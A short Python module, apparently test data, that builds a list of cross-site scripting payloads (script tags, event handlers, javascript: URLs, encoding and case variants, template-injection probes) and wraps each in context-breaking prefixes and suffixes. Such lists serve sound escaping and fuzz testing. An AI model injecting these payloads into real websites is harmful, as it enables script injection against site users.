"""Texts that become script where a page forgets to escape."""

from __future__ import annotations

XSS = [
    part.replace("{}", "alert(1)")
    for part in (
        "<script>{}</script>", "<img src=x onerror={}>", "\"><svg onload={}>", "'><script>{}</script>",
        "<svg/onload={}>", "<body onload={}>", "<iframe src=javascript:{}>", "<a href=javascript:{}>x</a>",
        "<details open ontoggle={}>", "<math><mtext><script>{}</script>", "<style>@import'x'</style>",
        "<link rel=stylesheet href=x>", "<base href=//x>", "<form action=//x>", "<input autofocus onfocus={}>",
        "<video><source onerror={}>", "<object data=javascript:{}>", "<embed src=x>", "<meta http-equiv=refresh>",
        "</textarea><script>{}</script>", "</title><script>{}</script>", "<!--><script>{}</script>-->",
        "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "{{7*7}}", "{% raw %}", "${{}}", "#{}",
        "<ScRiPt>{}</sCrIpT>", "<<script>{}//<</script>", "<script\x0d>{}</script>", "＜script＞{}＜/script＞",
        "&lt;script&gt;{}&lt;/script&gt;", "javascript:{}", "\\u003cscript\\u003e{}", "<template><script>{}</script>",
        "<svg><script href=data:,{} />", "<svg><animate onbegin={} attributeName=x>", "\" onmouseover={} x=\"",
        "' onfocus={} tabindex=0 '", "` onclick={}", "<marquee onstart={}>", "<portal src=x>", "<keygen autofocus>",
    )
]  # fmt: skip
AROUND = ("{}", "'{}", '"{}', "</p>{}", "-->{}", "]]>{}", '\\"{}', "</script>{}", "&quot;{}", "%22{}", "{}//", "x{}y")
HOSTILE_TEXTS = [around.replace("{}", line) for line in XSS for around in AROUND]
